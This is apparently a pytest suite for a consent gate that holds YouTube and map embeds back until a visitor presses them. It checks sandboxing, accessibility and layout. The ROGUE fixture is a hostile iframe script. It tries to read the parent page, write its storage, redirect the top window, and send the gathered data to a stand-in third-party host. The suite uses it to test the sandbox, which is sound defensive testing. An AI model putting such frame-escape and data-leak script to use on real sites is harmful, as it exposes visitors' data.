"""Embeds: nothing of a third party before the button is pressed, and then that one
frame, for as long as was said.
"""

from collections.abc import Iterator
from importlib.resources import files

import pytest

from analytics_gate.audit.recorder.recorder import Recorder
from analytics_gate.audit.visitors import Signal
from analytics_gate.delivery.server import SiteServer, serve_folder
from tests.support.site_building import Project
from tests.support.visiting import Visit, Visiting

AXE = files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8")

SERVICES = """services:
  - preset: youtube
  - id: atlas
    name: Atlas
    purpose: functional
    provider: {name: Example, policy: "https://atlas.example/privacy"}
    hosts: {frame: [atlas.example]}
"""
WATCH = """# Watch

{{< embed service="youtube" id="M7lc1UVf-VE" title="A video" >}}

## After it

* In a list, in a {{< embed service="youtube" id="M7lc1UVf-VE" title="The same again" >}} sentence

<iframe src="https://atlas.example/map" title="A map" width="400" height="300"></iframe>

{{< choices >}}
"""
LATER = (
    '# Later\n\n{{< embed service="youtube" id="aaaaaaaaaaa" title="Another '
    'video" >}}\n\n{{< choices >}}\n'
)
PLAYER, VIDEO = "www.youtube-nocookie.com", "/embed/M7lc1UVf-VE"
# What a frame of a third party would do if it could: keep something, tell of the page,
# lead it and itself away.
ROGUE = """<!doctype html><html lang="en"><title>Atlas</title><p>A map</p><script>
const told = {}
const dare = (name, attempt) => { try { told[name] = attempt() } catch (error) {
  told[name] = error.name } }
dare("referrer", () => document.referrer)
dare("page", () => parent.parent.document.title)
dare("keeps", () => parent.parent.localStorage.setItem("atlas", "1"))
dare("leads", () => { top.location = "https://elsewhere.example/page" })
fetch("/told?" + encodeURIComponent(JSON.stringify(told))).then(() =>
  location = "https://elsewhere.example/frame")
</script>"""


@pytest.fixture(scope="module")
def watching(
    tmp_path_factory: pytest.TempPathFactory, session_recorder: Recorder
) -> Iterator[SiteServer]:
    """A small site with Material's instant navigation, and embeds in two of its pages.

    Over https, for on plain http Firefox connects to hovered links.
    """
    project = Project(tmp_path_factory.mktemp("watching"))
    pages = {
        "index.md": "# Home\n\nWords\n",
        "watch.md": WATCH,
        "later.md": LATER,
        "services.yml": SERVICES,
    }
    project.write({f"content/{name}": text for name, text in pages.items()})
    palette = [
        {"media": "(prefers-color-scheme: light)", "scheme": "default"},
        {"media": "(prefers-color-scheme: dark)", "scheme": "slate"},
    ]
    theme = {
        "name": "material",
        "font": False,
        "features": ["navigation.instant", "navigation.tabs"],
    }
    with serve_folder(project.folder / "site") as server:
        server.socket = session_recorder.certificates.for_host("localhost").wrap_socket(
            server.socket, server_side=True
        )
        project.build(
            site_url=f"https://site.localhost:{server.port}/",
            theme={**theme, "palette": palette},
        )
        yield server


def begin(
    visit: Visiting,
    server: SiteServer,
    signal: Signal = Signal.NONE,
    *,
    javascript: bool = True,
) -> Visit:
    visitor = visit(signal, server=server, javascript=javascript)
    visitor.recorder.answer("atlas.example", "/map", ROGUE)
    return visitor


def placeholder(visitor: Visit, title: str) -> str:
    return f'[data-gate-embed][aria-label="{title}"]'


def press(visitor: Visit, title: str) -> None:
    visitor.page.locator(f"{placeholder(visitor, title)} button").click()
    frame = visitor.page.locator(
        f"{placeholder(visitor, title)} iframe"
    ).element_handle()
    content = frame.content_frame()
    assert content
    # Where a frame goes while it loads, Playwright's driver of Firefox ends: it looks up
    # the frame that committed, and finds none.
    content.wait_for_url(lambda url: url != "about:blank")


def tab_to(visitor: Visit, selector: str) -> None:
    """Goes there as somebody does who has no pointer."""
    for _ in range(60):
        visitor.page.keyboard.press("Tab")
        if visitor.ask(f"document.activeElement.matches({selector!r})"):
            return
    raise AssertionError(f"no Tab leads to {selector}")


def open_titles(visitor: Visit) -> list[str]:
    found: list[str] = visitor.ask(
        "Array.from(document.querySelectorAll('[data-gate-embed]:has(iframe)'), "
        "(each) => each.ariaLabel)"
    )
    return found


def kept_by_site(visitor: Visit) -> dict[str, set[str]]:
    """What the browser keeps for the site itself; a frame's own cookies, where a
    browser has some, are its own.
    """
    kept = visitor.kept()
    own = {
        each["name"]
        for each in visitor.page.context.cookies()
        if each["domain"].lstrip(".") == visitor.host
    }
    return {kind: names for kind, names in {**kept, "cookie": own}.items() if names}


def forget_contacts(visitor: Visit) -> None:
    visitor.recorder.wait_until_idle()
    visitor.recorder.clear()


@pytest.mark.parametrize("signal", [Signal.NONE, Signal.GPC])
def test_an_embed_contacts_nobody_until_it_is_pressed(
    visit: Visiting, watching: SiteServer, signal: Signal
) -> None:
    visitor = begin(visit, watching, signal)
    loaded: list[str] = []
    visitor.page.on("request", lambda request: loaded.append(request.url))
    visitor.go("/")
    visitor.follow("/watch/")
    for button in visitor.page.locator("[data-gate-embed] :is(button, a)").all():
        button.hover()
        button.focus()
    assert visitor.page.locator("[data-gate-embed] button:visible").count() == 3
    # With a signal nothing is remembered, so there is nothing to say for good.
    assert visitor.page.locator("[data-gate-embed] input:visible").count() == (
        3 if signal is Signal.NONE else 0
    )
    assert visitor.page.locator("[data-gate-embed] input:checked").count() == 0
    assert not visitor.panel_is_open
    assert kept_by_site(visitor) == {}
    assert [
        url for url in loaded if "/gate/" in url and not url.endswith("/gate/embed.css")
    ] == []
    visitor.leave()
    assert visitor.contacted() == []


@pytest.mark.parametrize("signal", [Signal.NONE, Signal.DNT])
def test_a_pressed_embed_opens_in_its_sandbox_for_this_view(
    visit: Visiting, watching: SiteServer, signal: Signal
) -> None:
    visitor = begin(visit, watching, signal)
    visitor.go("/watch/")
    tab_to(visitor, f"{placeholder(visitor, 'A map')} button")
    visitor.page.keyboard.press("Enter")
    told = visitor.recorder.wait_for("atlas.example", path="/told")
    assert (
        visitor.recorder.wait_for("atlas.example", path="/map").header("Referer")
        is None
    )
    assert (
        "%22referrer%22%3A%22%22%2C%22page%22%3A%22SecurityError%22%2C%22keeps%22%3A%22SecurityError%22"
        in told.url
    )
    assert visitor.ask("document.activeElement.parentNode.ariaLabel") == "A map"
    assert open_titles(visitor) == ["A map"]
    press(visitor, "A video")
    video = visitor.recorder.wait_for(PLAYER, path=VIDEO)
    # Only this service is told which site it stands in, and not even it which page.
    assert video.header("Referer") == f"{visitor.site}/"
    assert kept_by_site(visitor) == {}
    assert visitor.ask("gate.allowed") == []
    visitor.follow("/")
    visitor.recorder.wait_until_idle()
    # The map could lead neither the page away, nor itself to where the declaration does
    # not let it be. (To whom it connects, a third party's own document decides for
    # itself: Chromium refuses to show what it has connected to.)
    assert visitor.recorder.requests_to("elsewhere.example") == ()
    assert {*visitor.recorder.hosts} - {"elsewhere.example"} == {
        "atlas.example",
        PLAYER,
    }
    visitor.recorder.clear()
    visitor.follow("/watch/")
    assert open_titles(visitor) == []
    visitor.go("/watch/")
    assert open_titles(visitor) == []
    assert visitor.contacted() == []


def test_an_embed_that_is_always_to_show_does_so_until_that_is_withdrawn(
    visit: Visiting, watching: SiteServer
) -> None:
    visitor = begin(visit, watching)
    visitor.go("/watch/")
    tab_to(visitor, f"{placeholder(visitor, 'A video')} input")
    visitor.page.keyboard.press("Space")
    visitor.page.keyboard.press("Tab")
    visitor.page.keyboard.press("Enter")
    visitor.until("document.activeElement.parentNode.ariaLabel == 'A video'")
    # All places of that service, and none of another.
    assert open_titles(visitor) == ["A video", "The same again"]
    assert kept_by_site(visitor) == {"cookie": {"gate"}}
    visitor.follow("/later/")
    visitor.recorder.wait_for(PLAYER, path="/embed/aaaaaaaaaaa")
    assert open_titles(visitor) == ["Another video"]
    visitor.go("/later/")
    assert open_titles(visitor) == ["Another video"]
    visitor.page.locator("[data-gate-open='']").click()
    panel = visitor.page.locator("#gate-panel")
    assert "Allowed: YouTube (Additional features)." in panel.inner_text()
    panel.get_by_role("button", name="Choose").click()
    assert panel.locator("li").nth(0).inner_text().split("\n")[5:9] == [
        "Runs",
        "Only where you press its button, sealed off from this page",
        "Is told",
        "This site's address",
    ]
    visitor.page.locator("[data-gate-embed] iframe").focus()
    panel.locator("[data-gate-choice=none]").click()
    visitor.until("!document.querySelector('[data-gate-embed] iframe')")
    visitor.settle()
    assert visitor.page.locator("[data-gate-embed] input:checked").count() == 0
    forget_contacts(visitor)
    visitor.go("/watch/")
    assert open_titles(visitor) == []
    assert not visitor.panel_is_open
    assert visitor.contacted() == []
    # A refusal is about the service; a press is about one embed, and comes after it.
    press(visitor, "A video")
    visitor.recorder.wait_for(PLAYER, path=VIDEO)
    assert open_titles(visitor) == ["A video"]


def test_an_embed_goes_with_a_later_refusal_or_signal(
    visit: Visiting, watching: SiteServer
) -> None:
    visitor = begin(visit, watching)
    visitor.recorder.answer("atlas.example", "/map", "<title>Atlas</title>A map")
    visitor.go("/watch/")
    press(visitor, "A video")
    press(visitor, "A map")
    visitor.page.locator(f"{placeholder(visitor, 'A video')} iframe").focus()
    # What is said of another service leaves it alone.
    visitor.ask("gate.choose({ atlas: false })")
    assert open_titles(visitor) == ["A video"]
    visitor.ask("gate.withdraw()")
    assert open_titles(visitor) == []
    assert visitor.ask("document.activeElement.ariaLabel") == "Show: A video"
    # Refused already, pressed, and refused again.
    press(visitor, "A video")
    visitor.ask("gate.withdraw()")
    assert open_titles(visitor) == []
    press(visitor, "A video")
    visitor.ask(
        "void Object.defineProperty(navigator, 'globalPrivacyControl', { value: "
        "true, configurable: true })"
    )
    visitor.ask("gate.update()")
    assert open_titles(visitor) == []
    assert visitor.page.locator("[data-gate-embed] input:visible").count() == 0
    # Pressed while the browser signals, it is the visitor's last word.
    press(visitor, "A video")
    visitor.ask("gate.withdraw()")
    visitor.ask("gate.update()")
    assert open_titles(visitor) == ["A video"]
    assert kept_by_site(visitor) == {}
    visitor.leave()


BOXES = """(title) => {
  const box = document.querySelector(`[data-gate-embed][aria-label="${title}"]`)
  const place = ({ x, y, width, height }) => [x, y + scrollY, width, height].map(Math.round)
  const inside = { x: box.clientLeft, y: box.clientTop, width: box.clientWidth, height:
    box.clientHeight }
  const frame = box.querySelector("iframe")
  return {
    box: place(box.getBoundingClientRect()),
    after: place(document.querySelector("#after-it").getBoundingClientRect()),
    inside: [inside.width, inside.height],
    frame: frame && [frame.offsetWidth, frame.offsetHeight],
    ratio: inside.width / inside.height,
    overflow: document.documentElement.scrollWidth > innerWidth,
  }
}"""


@pytest.mark.either_engine
def test_an_embed_opens_in_its_whole_place_and_nothing_moves(
    visit: Visiting, watching: SiteServer
) -> None:
    visitor = begin(visit, watching)
    for width in (320, 390, 1440):
        visitor.page.set_viewport_size({"width": width, "height": 800})
        visitor.go("/watch/")
        before = visitor.page.evaluate(BOXES, "A video")
        press(visitor, "A video")
        after = visitor.page.evaluate(BOXES, "A video")
        assert (before["box"], before["after"]) == (after["box"], after["after"]), width
        assert after["frame"] == after["inside"], width
        assert not before["overflow"], width
        # On a phone the words may need more room than the video.
        assert after["ratio"] <= 16 / 9 + 0.02, width
    assert after["ratio"] == pytest.approx(16 / 9, abs=0.02)
    assert visitor.page.evaluate(BOXES, "A map")["ratio"] == pytest.approx(
        4 / 3, abs=0.02
    )
    visitor.leave()


@pytest.mark.either_engine
def test_an_embed_is_a_link_on_paper(visit: Visiting, watching: SiteServer) -> None:
    visitor = begin(visit, watching)
    visitor.go("/watch/")
    press(visitor, "A video")
    # Firefox cannot be told to print without doing it.
    visitor.ask("""Array.from(document.styleSheets, ({ cssRules }) => Array.from(cssRules, ({
      media }) => {
      if (media?.mediaText == "print") media.mediaText = "all"
    }))""")
    for title, link in (
        ("A video", "https://www.youtube.com/watch?v=M7lc1UVf-VE"),
        ("A map", "https://atlas.example/map"),
    ):
        place = visitor.page.locator(placeholder(visitor, title))
        assert place.locator(":is(strong, a):visible").count() == 2
        assert (
            place.locator(":is(iframe, svg, button, input, small):visible").count() == 0
        )
        assert visitor.ask(
            f"getComputedStyle(document.querySelector('a[href=\"{link}\"]'), '::after').content"
        )
    height = place.bounding_box()
    assert height
    assert height["height"] < 100
    visitor.leave()


def test_an_embed_is_a_link_without_a_script(
    visit: Visiting, watching: SiteServer
) -> None:
    visitor = begin(visit, watching, javascript=False)
    visitor.page.goto(f"{visitor.site}/watch/")
    place = visitor.page.locator(placeholder(visitor, "A video"))
    assert place.inner_text().split("\n")[0] == "A video"
    assert place.locator(":is(button, input, small):visible").count() == 0
    assert visitor.contacted() == []
    # Without scripts, Playwright cannot tell in Firefox whether something stands still,
    # so it does not press it itself.
    place.get_by_role("link").focus()
    visitor.page.keyboard.press("Enter")
    visitor.recorder.wait_for("www.youtube.com", path="/watch")


LOOKS = (
    {"color_scheme": "light", "forced_colors": "none"},
    {"color_scheme": "dark", "forced_colors": "none"},
    {"color_scheme": "light", "forced_colors": "active"},
)
RUN_AXE = """async () => {
  const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']
  const { violations, passes } = await axe.run('[data-gate-embed]', { runOnly: tags, iframes:
    false })
  return [violations.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html}`)),
    passes.map(({ id }) => id)]
}"""


@pytest.mark.either_engine
def test_axe_has_nothing_against_an_embed_closed_or_open(
    visit: Visiting, watching: SiteServer
) -> None:
    visitor = begin(visit, watching)
    for media in LOOKS:
        # Before the page is there: colours take a while to follow a scheme that changes.
        visitor.page.emulate_media(**media)  # type: ignore[arg-type]
        visitor.go("/watch/")
        visitor.page.evaluate(AXE)
        findings, passed = visitor.page.evaluate(RUN_AXE)
        assert findings == [], media
        assert {"button-name", "label"} <= set(passed), media
        press(visitor, "A video")
        findings, passed = visitor.page.evaluate(RUN_AXE)
        assert (findings, "frame-title" in passed) == ([], True), media
    visitor.ask("document.querySelector('[data-gate-embed] iframe').title = ''")
    assert any(
        finding.startswith("frame-title")
        for finding in visitor.page.evaluate(RUN_AXE)[0]
    )
    visitor.leave()
